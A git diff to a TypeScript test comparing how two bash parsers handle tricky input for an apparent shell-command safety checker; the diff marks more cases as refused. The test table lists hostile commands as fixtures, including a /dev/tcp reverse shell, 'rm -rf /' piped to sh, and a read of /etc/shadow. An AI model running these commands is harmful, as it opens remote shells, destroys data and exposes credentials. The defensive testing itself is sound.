@@ -114,7 +114,7 @@ const KNOWN: Record<string, { who: 'treeSitter' | 'refused' | 'mvdan'; why: stri
   'v="x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
   'echo ok && echo "x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
   'echo "$v"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'julia <<EOF\nrun(`id`)\nEOF': { who: 'mvdan', why: 'tree-sitter leaves `...` in an unquoted heredoc as text: bash runs it' },
+  'julia <<EOF\nrun(`id`)\nEOF': { who: 'refused', why: 'tree-sitter leaves `...` in an unquoted heredoc as text (bash runs it): the glue refuses' },
   'function called with the dangerous arguments': { who: 'refused', why: '`function NAME CMD` without braces: tree-sitter errors (fail closed)' },
   'function after shift': { who: 'refused', why: '`function NAME CMD` without braces: tree-sitter errors (fail closed)' },
   'cat /etc/@(shadow)': { who: 'refused', why: 'extglob: tree-sitter errors (fail closed)' },
@@ -123,7 +123,10 @@ const KNOWN: Record<string, { who: 'treeSitter' | 'refused' | 'mvdan'; why: stri
   'time ls': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
   '{rm,-rf,/}': { who: 'refused', why: 'a brace expansion as the command word: tree-sitter errors (fail closed)' },
   'cat <<EOF | sh\nrm -rf /\nEOF': { who: 'refused', why: 'a pipeline on the heredoc line: tree-sitter nests it in the redirect; the glue refuses' },
-  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': { who: 'mvdan', why: 'tree-sitter reads `0>&1` after `>&` as an argument 0 and a redirect without fd' },
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': {
+    who: 'refused',
+    why: 'tree-sitter reads `0>&1` after `>&` as an argument 0 and a redirect without fd: the glue refuses',
+  },
   'exec 3<>/dev/tcp/host/80': { who: 'refused', why: '`<>` after an fd: tree-sitter errors (fail closed)' },
   "cat <<'EOF' > notes.txt\nno $expansion here\nEOF": { who: 'mvdan', why: 'the quoted heredoc delimiter is kept as literal text, not as a quoted word' },
   'echo "{a,b}" \\{a,b\\}': { who: 'treeSitter', why: 'an escaped brace: mvdan splits \\{a,b\\} into a brace (its bug); the glue keeps it literal' },
@@ -168,4 +171,11 @@ test('both parsers read the same tree, except the listed differences', () => {
     }
   }
   expect(Object.keys(found).sort()).toEqual(Object.keys(KNOWN).sort());
+  // and each is the listed kind: 'refused' exactly where the tree-sitter glue refuses
+  const refusedNow = Object.keys(found).filter((t) => found[t]!.endsWith('tree-sitter refuses'));
+  expect(refusedNow.sort()).toEqual(
+    Object.keys(KNOWN)
+      .filter((t) => KNOWN[t]!.who === 'refused')
+      .sort(),
+  );
 });
